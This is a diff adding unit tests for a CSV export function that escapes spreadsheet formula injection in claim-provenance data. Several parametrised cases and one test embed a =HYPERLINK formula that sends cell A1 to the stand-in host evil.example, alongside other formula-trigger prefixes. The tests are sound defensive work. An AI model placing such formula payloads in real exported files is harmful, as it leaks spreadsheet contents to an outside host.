@@ -16,7 +16,7 @@ from rdflib.namespace import PROV
 
 from sourcetrace.linking import ClaimTrace
 from sourcetrace.provenance import FORMATS, claim_graph, claim_jsonld, write_export
-from sourcetrace.provenance.exports import CSV_FIELDS
+from sourcetrace.provenance.exports import CSV_FIELDS, spreadsheet_safe
 from sourcetrace.records import DateMention
 
 SCHEMA = rdflib.Namespace("https://schema.org/")
@@ -130,3 +130,25 @@ def test_dates_reach_the_csv_and_the_claims_temporal_coverage(traces: list[Claim
     assert [r["dates"] for r in rows[1:]] == ["", "", ""]
     line = json.loads(export([dated], "jsonl"))
     assert line["first"]["dates"][0] == monday.to_dict() and line["timeline"][0]["dates"][2]["start"] is None
+
+
+@pytest.mark.parametrize("value, written", [
+    ("=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")"),
+    ("+1 555 0100", "'+1 555 0100"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"),
+    ("＝1+1", "'＝1+1"),                   # a full-width equals sign, which spreadsheets also read
+    ("Talks collapsed, she said", "Talks collapsed, she said"), ("", ""), (-2.5, -2.5), (7, 7), (None, None),
+])
+def test_spreadsheet_safe(value: object, written: object) -> None:
+    assert spreadsheet_safe(value) == written
+
+
+def test_csv_cells_from_article_text_never_open_a_formula(traces: list[ClaimTrace]) -> None:
+    big = next(t for t in traces if len(t.timeline) == 4)
+    payload = '=HYPERLINK("http://evil.example/?"&A1, "more")'
+    first = dataclasses.replace(big.first, text=payload, speaker="@mallory", title="-1 dead")
+    hostile = dataclasses.replace(big, text=payload, first=first, timeline=(first, *big.timeline[1:]))
+    rows = list(csv.DictReader(io.StringIO(export([hostile], "csv"))))
+    assert (rows[0]["claim_text"], rows[0]["text"]) == ("'" + payload, "'" + payload)
+    assert (rows[0]["speaker"], rows[0]["title"]) == ("'@mallory", "'-1 dead")
+    assert rows[1]["text"] == big.timeline[1].text                  # ordinary text is left alone
+    assert rows[0]["appearance"] == "1" and rows[0]["similarity"] == ""
